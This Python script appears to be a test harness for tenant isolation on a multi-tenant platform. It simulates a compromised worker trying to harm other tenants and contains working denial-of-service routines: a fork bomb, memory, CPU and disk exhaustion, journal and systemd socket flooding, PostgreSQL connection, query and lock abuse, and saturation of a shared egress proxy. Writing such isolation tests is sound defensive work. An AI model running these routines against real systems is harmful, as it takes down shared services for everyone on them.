"""What somebody does who has taken over a tenant's worker and wants to hurt the others: abuse.py NAME

Runs in that worker's unit until it is ended. Needs Python and psycopg2, and knows nothing of Flow HQ.
"""
import os
import signal
import socket
import sys
import time
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path
from typing import Any, NoReturn

import psycopg2

DATABASE = "postgresql:///flowhq?host=/run/postgresql"
POSTGRES = "/run/postgresql/.s.PGSQL.5432"
MIB = 1024 * 1024
# What it writes in all, so that a machine without limits survives the test.
DISK_MIB = 3000


def in_children(count: int, act: Callable[[], Any]) -> NoReturn:
    """Do it in so many processes, again and again, whatever becomes of them."""
    signal.signal(signal.SIGCHLD, signal.SIG_IGN)
    children: set[int] = set()
    while True:
        children = {child for child in children if Path(f"/proc/{child}").exists()}
        while len(children) < count:
            with suppress(OSError):
                children.add(fork(act))
        time.sleep(0.05)


def fork(act: Callable[[], Any]) -> int:
    if child := os.fork():
        return child
    try:
        while True:
            act()
    finally:
        os._exit(1)


def processes() -> None:
    """A fork bomb."""
    while True:
        with suppress(OSError):
            if not os.fork():
                continue


def memory() -> None:
    """All the memory there is."""
    in_children(2, lambda: [bytearray(os.urandom(1) * 50 * MIB) for _ in range(200)])


def processor() -> None:
    """All the processors there are."""
    in_children(16, lambda: sum(range(10**7)))


def disk() -> None:
    """The disk, full."""
    block, written, number = os.urandom(MIB), 0, 0
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    while written < DISK_MIB:
        number += 1
        with suppress(OSError), Path(f"fill{number}").open("wb") as file:
            while written < DISK_MIB and file.write(block):
                written += 1
    signal.pause()


def log() -> None:
    """The journal, flooded by three ways."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as journal, socket.socket(
            socket.AF_UNIX, socket.SOCK_DGRAM) as syslog:
        while True:
            print("flood " + "x" * 1000, flush=True)
            with suppress(OSError):
                journal.sendto(b"MESSAGE=flood\nX=" + b"x" * 1000 + b"\n", "/run/systemd/journal/socket")
                syslog.sendto(b"<0>flood " + b"x" * 1000, "/dev/log")


def notes() -> None:
    """systemd itself, with notes from the service and from others in it."""
    address = os.environ.get("NOTIFY_SOCKET", "/run/systemd/notify")

    def speak() -> None:
        with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as speaker, suppress(OSError):
            while True:
                speaker.sendto(f"STATUS={time.monotonic_ns()}".encode(), address)

    fork(speak)
    speak()


def connections() -> None:
    """PostgreSQL's doors, kept busy without a word."""
    held: list[socket.socket] = []
    while True:
        with suppress(OSError):
            knock = socket.socket(socket.AF_UNIX)
            knock.connect(POSTGRES)
            held.append(knock)
        if len(held) >= 4000:
            held.pop(0).close()


def statements() -> None:
    """PostgreSQL's processors, by statements without end."""
    def ask() -> None:
        with psycopg2.connect(DATABASE) as session, session.cursor() as cursor:
            cursor.execute("SET statement_timeout = 0")
            cursor.execute("SELECT count(*) FROM generate_series(1, 100000000) g WHERE g % 7 = 0")

    in_children(4, ask)


def sorting() -> None:
    """PostgreSQL's memory, by one statement."""
    def ask() -> None:
        with psycopg2.connect(DATABASE) as session, session.cursor() as cursor:
            cursor.execute("SET work_mem = '16GB'; SET hash_mem_multiplier = 100; SET statement_timeout = 0")
            cursor.execute("SELECT length(string_agg(repeat('x', 900000), '')) FROM generate_series(1, 1100)")

    in_children(4, ask)


def locks() -> None:
    """Transactions that never end and lock what their role may lock."""
    def hold() -> None:
        with psycopg2.connect(DATABASE) as session, session.cursor() as cursor:
            cursor.execute("SET idle_in_transaction_session_timeout = 0; SET statement_timeout = 0")
            for table in ("tenant", "whatsapp_session", "worker_process", "chat", "message"):
                cursor.execute(f"SELECT id FROM {table} FOR UPDATE")  # noqa: S608  names from the line above
            time.sleep(3600)

    in_children(1, hold)


def egress() -> None:
    """The one way out that all workers share."""
    held: list[socket.socket] = []
    while True:
        with suppress(OSError):
            held.append(socket.create_connection(("127.0.0.1", 1080), 1))
        if len(held) >= 4000:
            held.pop(0).close()


ABUSES = {act.__name__: act for act in (
    processes, memory, processor, disk, log, notes, connections, statements, sorting, locks, egress)}

if __name__ == "__main__":
    ABUSES[sys.argv[1]]()
